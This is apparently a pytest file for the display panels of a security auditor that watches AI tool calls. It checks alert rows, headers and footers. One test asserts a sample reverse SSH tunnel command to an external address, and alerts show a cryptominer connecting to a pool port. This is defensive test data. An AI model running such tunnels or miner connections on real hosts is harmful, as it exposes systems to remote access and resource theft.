"""The panels: each a part of a snapshot as strips."""

import dataclasses

import pytest

from auditor.sinks.snapshot import Snapshot
from auditor.view.glyphs import ALARM, ASCII, LEVELS, SELECTED, UNICODE
from auditor.view.panels import age, alert_list, calm, caution, footer, header, level, shown_command, spark
from tests.builders import SECOND
from tests.unit.view.scene import make_rome


def text(strips):
    """Read strips as a block of text."""
    return "\n".join(strip.text.rstrip() for strip in strips)


def styles(strips):
    """List the styles that stand in strips."""
    return {style for strip in strips for _, style in strip.pieces}


@pytest.fixture(scope="module")
def rome():
    """Give a snapshot with a tunnel and a miner."""
    return make_rome()[0].snapshot()


QUIET = Snapshot(
    host="node-7",
    events=12_345,
    rates=(0.0, 50.0, 100.0),
    tracked=12,
    cpu=0.0042,
    sessions=1,
    calls=9,
)


def test_the_header_at_80_columns():
    """Two lines tell who is watched and how the watching goes."""
    assert text(header(QUIET, 80, UNICODE)) == (
        " auditor on node-7 · 12 tasks · 1 session · 9 tool calls               0 alerts\n"
        " 12,345 events · 100/s ▁▅█ · 0 lost                                    cpu 0.4%"
    )


def test_losses_are_an_alarm():
    """Losses are told by what was lost, in red; without any nothing is red."""
    losing = dataclasses.replace(QUIET, losses=(("ring.connect", 1200), ("ring.exec", 4)))
    lines = header(losing, 100, UNICODE)
    assert "LOST 1,204: ring.connect 1,200, ring.exec 4" in lines[1].text
    assert ALARM in styles(lines)
    assert ALARM not in styles(header(QUIET, 80, UNICODE))


def test_the_header_before_the_first_event():
    """Nothing is known yet, and nothing fails."""
    assert text(header(Snapshot(), 60, ASCII)).splitlines() == [
        " auditor - 0 tasks - 0 sessions - 0 tool calls     0 alerts",
        " 0 events - 0/s  - 0 lost                             cpu ?",
    ]


def test_the_end_of_the_stream_is_told():
    """Why it ended stands where the CPU stood."""
    lines = header(dataclasses.replace(QUIET, ended="interrupted"), 80, UNICODE)
    assert lines[1].text.endswith("ended: interrupted ")


def test_the_list_at_80_columns(rome):
    """Level, rule, tool call and where to of each row, newest first, the selected one in reverse."""
    lines = alert_list(rome, 1, 80, 10, UNICODE)
    assert text(lines) == (
        "  LEVEL    RULE                    TOOL CALL     WHERE TO            SEEN   AGE\n"
        "  CRITICAL Miner launched          t9            198.51.100.9:3333           2s\n"
        "▶ HIGH     Reverse SSH tunnel to … t7            203.0.113.66:22             9s"
    )
    assert styles(lines[2:]) == {SELECTED}
    assert SELECTED not in styles(lines[:2])


def test_the_list_at_200_columns_has_the_command(rome):
    """Where there is room the offender's command stands on the row, and the rule's title in full."""
    row = alert_list(rome, 0, 200, 10, UNICODE)[2].text
    assert "Reverse SSH tunnel to an external address " in row
    assert "203.0.113.66:22" in row
    assert "ssh -fN -R 8080:localhost:22 root@203.0.113.66 " in row


@pytest.mark.parametrize("width", range(20, 240, 7))
def test_headings_stand_above_their_columns(rome, width):
    """At any width a heading begins where its column does, and nothing is cut that had nothing to show."""
    headings, first, *_ = (line.text for line in alert_list(rome, 0, width, 10, ASCII))
    assert not headings.count("~") or first.count("~")
    for heading, value in (("RULE", "Miner"), ("TOOL CALL", "t9"), ("WHERE TO", "198."), ("COMMAND", "trainer")):
        if heading in headings:
            assert headings.index(heading) == first.index(value)


def test_the_list_scrolls_with_the_selection(rome):
    """However long the list is, the selected row is among those shown."""
    rows = tuple(dataclasses.replace(rome.rows[0], call_id=f"call-{number}") for number in range(50))
    many = dataclasses.replace(rome, rows=rows)
    for selected in (0, 1, 25, 48, 49):
        lines = alert_list(many, selected, 80, 6, UNICODE)
        assert len(lines) == 6
        (chosen,) = [line.text for line in lines if line.text.startswith("▶")]
        assert f" call-{selected} " in chosen


def test_counts_and_ages_stand_at_the_end(rome):
    """A row says how often its rule fired and when it last did."""
    row = dataclasses.replace(rome.rows[0], count=1234, last_ns=rome.now_ns - 180 * SECOND)
    line = alert_list(dataclasses.replace(rome, rows=(row,)), 0, 80, 5, UNICODE)[1].text
    assert line.endswith(f"{UNICODE.times}1234    3m ")


def test_calm_is_quiet():
    """Without alerts one dim line says who is watched."""
    lines = calm(QUIET, 80, UNICODE)
    assert text(lines) == "  watching 12 tasks, no alerts"
    assert styles(lines) <= {"dim", ""}


def test_doubts_are_told_and_trust_is_not(rome):
    """Only an alert whose evidence is in doubt has a note."""
    row = rome.rows[0]
    assert caution(row, 80, UNICODE) == []
    poor = dataclasses.replace(row, losses=(("ring.exec", 3),), lineage_complete=False, args_truncated=True)
    assert text(caution(poor, 120, UNICODE)) == (
        " note: lost meanwhile: ring.exec 3; not every birth in this tree was seen; arguments were cut"
    )


def test_the_footer_names_keys_and_place():
    """It tells where in the list one is, and what was dropped from it."""
    assert footer(1, 3, 0, 60, UNICODE).text == " q quit  ↑↓ choose                             alert 2 of 3 "
    assert footer(0, 200, 51, 60, ASCII).text == " q quit  up/down choose     alert 1 of 200, 51 more dropped "
    assert "alert" not in footer(0, 0, 0, 60, ASCII).text


@pytest.mark.parametrize(
    ("seconds", "words"),
    [(-5, "0s"), (0, "0s"), (59, "59s"), (60, "1m"), (3_599, "59m"), (7_200, "2h"), (86_400, "1d")],
)
def test_ages_are_short(seconds, words):
    """A span of time takes a few characters."""
    assert age(seconds * SECOND) == words


def test_a_spark_line_goes_from_nothing_to_the_highest():
    """The highest rate is the highest bar; without any rate above zero all lie flat."""
    assert spark((0.0, 5.0, 10.0), UNICODE)[::2] == "▁█"
    assert spark((0.0, 0.0), UNICODE) == "▁▁"
    assert spark((), UNICODE) == ""


@pytest.mark.parametrize("name", LEVELS)
def test_every_level_has_its_word(name):
    """A level can be told without colour."""
    assert level(name).text == {"informational": "INFO"}.get(name, name.upper())


def test_a_huge_command_costs_no_more_than_its_head():
    """Of a megabyte of arguments only what can be shown is escaped."""
    args = tuple("\x1b" * 10_000 for _ in range(100))
    assert len(shown_command(args, 80, UNICODE)) < 1_000
    assert shown_command(("a", "b c", "d"), 80, UNICODE) == 'a "b c" d'
